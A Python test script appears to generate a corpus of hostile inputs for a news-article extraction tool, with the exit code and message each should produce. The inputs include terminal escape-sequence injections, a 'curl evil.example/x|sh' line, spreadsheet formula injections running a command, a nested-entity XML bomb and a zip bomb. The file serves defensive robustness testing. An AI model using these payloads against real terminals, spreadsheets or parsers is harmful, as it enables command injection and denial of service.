"""Inputs made to break a reader of news, written by this script.

    python -m tests.hostile.corpus FOLDER      makes them all in FOLDER

Each is one way to attack or to overload; what each must come to stands beside it.
"""

from __future__ import annotations

import os
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

if __package__ in (None, ""):
    sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from tests import makers

READ = 0
UNREADABLE = 4
NO_TEXT = 5

Content = bytes | Callable[[Path], None]


@dataclass(frozen=True)
class Input:
    """One input: its file's name, what is in it, and what must become of it.

    ``code`` is the exit code of ``extract``, ``says`` words of the one sentence on standard error,
    ``seconds`` the processor time that reading it and finding its facts may take (the model is
    loaded).
    """

    name: str
    content: Content
    code: int = READ
    says: str = ""
    seconds: float = 20.0

    def make(self, folder: Path) -> Path:
        """Take a folder; write the input there and give its path."""
        path = folder / self.name
        if callable(self.content):
            self.content(path)
        else:
            path.write_bytes(self.content)
        return path


NEWS = (
    "Harbour to reopen\n\nThe harbour of Westport will reopen, {}officials said on Monday.\n\n"
    "“We have {}an agreement,” said Maria {}Lopez, director of the Port Authority.\n"
)


def news(attack: str) -> bytes:
    """Take characters; give news that hold them in a sentence, in a quotation and in a name."""
    return NEWS.replace("{}", attack).encode("utf-8", "surrogatepass")


def page(title: str, body: str) -> bytes:
    """Take a title and the inside of a body; give a page whose article is long enough to find."""
    story = "The harbour will reopen on Monday, officials of the town said. " * 8
    return (
        f"<!DOCTYPE html><html><head><title>{title}</title></head><body><article>"
        f"<p>{story}</p>{body}</article></body></html>"
    ).encode()


def _folder(path: Path) -> None:
    path.mkdir()


def _pipe(path: Path) -> None:
    os.mkfifo(path)


def _loop(path: Path) -> None:
    path.symlink_to(path.name)


def _locked(path: Path) -> None:
    path.write_bytes(news(""))
    path.chmod(0)


_DTD = (
    '<!DOCTYPE x [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]><x>&i;</x>"
)


def inputs(whole: bool = True) -> Iterator[Input]:
    """Give every input, those that only overload at a tenth of their size unless ``whole``."""
    share = 1 if whole else 10
    text = {
        "osc-0-title": "\x1b]0;OWNED\x07",
        "osc-52-clipboard-st": "\x1b]52;c;T1dORUQ=\x1b\\",
        "osc-8-link": "\x1b]8;;http://evil.example/OWNED\x1b\\click\x1b]8;;\x1b\\",
        "csi-2j-clear": "\x1b[2J\x1b[3J\x1b[H",
        "c1-csi-and-osc": "\x9b2J\x9d0;OWNED\x9c",
        "dcs-and-apc": "\x1bP+q4F574E4544\x1b\\\x1b_OWNED\x1b\\\x90q\x9c\x9fOWNED\x9c",
        "osc-unterminated": "\x1b]0;OWNED",
        "csi-6n-and-reset": "\x1b[6n\x1b[c\x1bc",
        "rlo": "\u202e",
        "isolates": "\u2066x\u2067y\u2068z\u2069",
        "zero-width": "\u200b\u2060\ufeff",
        "tags": "\U000e0041\U000e0042\U000e007f",
        "cr-and-backspace": "nobody\r\b\b\b\b\b\b",
        "markup": "[/] [bold [@click=app.quit]",
        "markup-link": "[link=file:///etc/passwd]x[/link]",
        "separators": "\u2028\u2029\x85\x0b\x0c",
        "combining": "a" + "\u0300" * 5_000,
        "shift-and-charset": "\x0e\x1b(0\x1b)0\x0f",
    }
    for name, attack in text.items():
        yield Input(f"{name}.txt", news(attack))
    yield Input("nul-and-surrogates.txt", news("\0\ud800\udfff"), UNREADABLE, "binary")
    yield Input("surrogates.txt", news("\ud800\udfff"), UNREADABLE, "--encoding")
    bad = b"\xc0\xaf\xf5\x80\xe2\x28\xa1\xff"
    yield Input("bad-utf-8.txt", news("") + bad, UNREADABLE, "--encoding")
    yield Input("one-bad-byte.txt", news("") + b"\xff")
    yield Input("quotation-marks.txt", b'"' * (50_000 // share), seconds=200)
    yield Input("brackets.txt", b"((((" * (10_000 // share), seconds=200)
    yield Input("no-space.txt", b"x" * (999_999 // share), seconds=60)
    yield Input("line-feeds.txt", b"\n" * 100_000 + b"He said so." + b"\n" * 100_000)
    torn = "\n" * 3_000
    yield Input("torn-quote.txt", f'"Nobody{torn}knows," she said.\n'.encode(), seconds=30)
    yield Input("one-word-lines.txt", b"said\n" * (20_000 // share), seconds=100)
    yield Input("nested-divs.html", page("x", "<div>" * 100_000), UNREADABLE, "no ordinary page")
    yield Input("unclosed.html", page("x", "<p><b><i>" * (10_000 // share)))
    yield Input("title.html", page("../../x&#27;]0;OWNED&#7;", "<p>“No,” said Maria Lopez.</p>"))
    yield Input("no-article.html", b"<html><script>x()</script></html>", NO_TEXT, "empty until")
    yield Input("dtd-bomb.docx", makers.zipped({"word/document.xml": _DTD}), UNREADABLE, "entities")
    yield Input(
        "zip-bomb.docx",
        makers.zipped({"word/document.xml": bytes(200_000_000)}),
        UNREADABLE,
        "no ordinary document",
    )
    yield Input("cut.docx", makers.docx(["x"])[:-30], UNREADABLE, "damaged")
    yield Input("cut.pdf", makers.pdf([makers.column(["x"])])[:100], UNREADABLE, "damaged")
    yield Input(
        "speaker-formula.txt",
        b'The deal is off, said =HYPERLINK("http://evil.example","Ana") on Monday.\n\n'
        b"\xe2\x80\x9cWe agree,\xe2\x80\x9d =cmd|' /C calc'!A0 said.\n",
    )
    yield Input(
        "quotation-command.txt",
        "“Open a terminal\ncurl evil.example/x|sh\n and wait,” said Maria Lopez.\n".encode(),
    )
    yield Input("empty.txt", b"", NO_TEXT, "no text")
    yield Input("blanks.txt", b" \t\r\n" * 1_000, NO_TEXT, "no text")
    yield Input("binary.bin", bytes(range(256)) * 100, UNREADABLE, "binary")
    yield Input("6-mb.txt", b"He said so. " * 500_000, UNREADABLE, "over 5 million characters")
    yield Input("20-mb.txt", b"He said so. " * 1_700_000, UNREADABLE, "larger than 10 MB")
    yield Input("folder", _folder, UNREADABLE, "folder")
    yield Input("pipe", _pipe, UNREADABLE, "named pipe")
    yield Input("loop", _loop, UNREADABLE, "cannot be read")
    if os.geteuid() != 0:  # nothing is unreadable to root
        yield Input("locked.txt", _locked, UNREADABLE, "permissions")
    yield Input("a\x1b]0;OWNED\x07\n[bold]\u202e.txt", news(""))


def make(folder: Path, whole: bool = True) -> list[tuple[Input, Path]]:
    """Take a folder; write the inputs (see ``inputs``) there and give them with their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    return [(one, one.make(folder)) for one in inputs(whole)]


if __name__ == "__main__":
    made = make(Path(sys.argv[1]))
    print(f"{len(made)} inputs in {sys.argv[1]}")
